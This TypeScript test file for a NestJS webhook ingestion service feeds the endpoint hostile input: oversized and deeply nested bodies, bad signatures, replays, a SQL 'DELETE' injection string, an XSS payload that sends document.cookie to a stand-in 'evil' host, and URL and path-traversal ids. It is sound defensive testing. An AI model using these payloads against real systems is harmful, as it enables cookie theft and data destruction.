import type { INestApplication } from '@nestjs/common';
import { loadConfig } from '@scb/config';
import { qualifiedTopic, Topics } from '@scb/contracts';
import { signSha256, signTimestamped } from '@scb/social-sources';
import {
  appUrl,
  clearDedupKeys,
  dropTopics,
  genericWebhookMention,
  isolatedEnv,
  readAll,
  testKafka,
  sendRaw,
  topicMessageCount,
} from '@scb/testing';
import { startIngestion } from './ingestion.app';
import { IngestionConfigSchema } from './ingestion.config';

const SECRET = 'hostile-webhook-test-secret';
const TEXTS = [
  "'; DELETE FROM interactions WHERE '1'='1",
  '<script>fetch("//evil/"+document.cookie)</script>',
  '\u202Eevil\u202C zero\u200Bwidth\u200D\uFEFF joiners',
  'مرحبا @Brand 👩‍👩‍👧‍👦 שלום',
];

/** The generic webhook with the default 1 MB limit, against every kind of bad body. */
describe('generic webhook under hostile input (real HTTP server and Kafka)', () => {
  const env = isolatedEnv('hostilewh');
  const kafka = testKafka('scb-hostile-webhook-test');
  const topic = qualifiedTopic(env.KAFKA_TOPIC_PREFIX, Topics.mentions);
  let app: INestApplication;

  const post = async (
    body: string | Buffer,
    /** By default signed as a sender does: the timestamp and the body. */
    signature?: string | null,
    timestamp = Math.floor(Date.now() / 1000),
  ) => {
    const signed = signature === undefined ? signTimestamped(SECRET, timestamp, body) : signature;
    return sendRaw(`${await appUrl(app)}/v1/webhooks/mentions`, 'POST', body, {
      'x-scb-timestamp': String(timestamp),
      ...(signed ? { 'x-scb-signature': signed } : {}),
    });
  };

  beforeAll(async () => {
    app = await startIngestion(
      loadConfig(IngestionConfigSchema, { ...process.env, ...env, WEBHOOK_SECRET: SECRET }),
    );
  });
  afterAll(async () => {
    await app?.close();
    await dropTopics(kafka, env.KAFKA_TOPIC_PREFIX);
    await clearDedupKeys(env.KAFKA_TOPIC_PREFIX);
  });

  const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const refused: Array<[string, number, string | Buffer, RegExp]> = [
    [
      'a 10 MB body',
      413,
      JSON.stringify(genericWebhookMention('big', 'x'.repeat(10_000_000))),
      /larger than/,
    ],
    ['deeply nested JSON', 400, nested(200_000), /nested deeper than/],
    ['invalid UTF-8', 400, Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), /malformed JSON/],
    [
      'wrong types',
      400,
      JSON.stringify({ ...genericWebhookMention('t'), createdAt: 5, authorId: [] }),
      /createdAt/,
    ],
    ['missing fields', 400, JSON.stringify({ platform: 'x', text: 'hi' }), /externalId/],
    ['an empty body', 400, '', /.+/],
  ];

  it.each(refused)('refuses %s with %i and a reason', async (_, status, body, reason) => {
    const response = await post(body);
    expect(response.status).toBe(status);
    expect(response.text).toMatch(reason);
  });

  it('refuses a signature made for another body (or with another secret) with 401', async () => {
    const body = JSON.stringify(genericWebhookMention('sig-1'));
    const other = JSON.stringify(genericWebhookMention('sig-2'));
    expect((await post(body, signSha256(SECRET, other))).status).toBe(401);
    expect((await post(body, signSha256('another-secret-of-16+', body))).status).toBe(401);
    expect((await post(body, 'sha256=zz')).status).toBe(401);
  });

  it('publishes injection, RTL, zero-width and emoji text byte for byte', async () => {
    const body = JSON.stringify(TEXTS.map((text, i) => genericWebhookMention(`text-${i}`, text)));
    expect((await post(body)).status).toBe(202);
    const published = await readAll(kafka, topic, TEXTS.length);
    expect(published.map((m) => (JSON.parse(m.value) as { text: string }).text).sort()).toEqual(
      [...TEXTS].sort(),
    );
  });

  it('a replayed request (same body, same valid signature) is accepted and published once', async () => {
    const body = JSON.stringify(genericWebhookMention('replayed'));
    expect((await post(body)).status).toBe(202);
    const replay = await post(body);
    expect(replay.status).toBe(202);
    expect(JSON.parse(replay.text)).toMatchObject({ duplicates: 1 });
    // Only the four texts and this one mention ever reached the topic.
    expect(await topicMessageCount(kafka, topic)).toBe(TEXTS.length + 1);
  });

  it('refuses ids that could steer a reply to another host or Graph edge, per platform, and dead-letters them', async () => {
    const dlq = qualifiedTopic(env.KAFKA_TOPIC_PREFIX, Topics.mentionsDeadLetter);
    const hostile = [
      'http://evil.example/x',
      '//evil.example/x',
      '../../me/feed?',
      '1?access_token=x',
    ];
    const items = hostile.flatMap((id) =>
      ['x', 'facebook', 'instagram'].flatMap((platform) => [
        { ...genericWebhookMention('9'), platform, authorId: '6543210987654321', externalId: id },
        { ...genericWebhookMention('9'), platform, authorId: '6543210987654321', inReplyToId: id },
      ]),
    );
    const before = await topicMessageCount(kafka, topic);
    const lettersBefore = await topicMessageCount(kafka, dlq);
    const response = await post(JSON.stringify(items));
    expect(response.status).toBe(400);
    const body = JSON.parse(response.text) as {
      accepted: number;
      results: Array<{ status: string; errors: Array<{ path: string }> }>;
    };
    expect(body.accepted).toBe(0);
    expect(body.results.map((r) => r.status)).toEqual(items.map(() => 'rejected'));
    expect(body.results.map((r) => r.errors[0].path)).toEqual(
      items.map((i) => ('inReplyToId' in i ? 'inReplyToId' : 'externalId')),
    );
    expect(await topicMessageCount(kafka, topic)).toBe(before);
    expect(await topicMessageCount(kafka, dlq)).toBe(lettersBefore + items.length);
  });
});
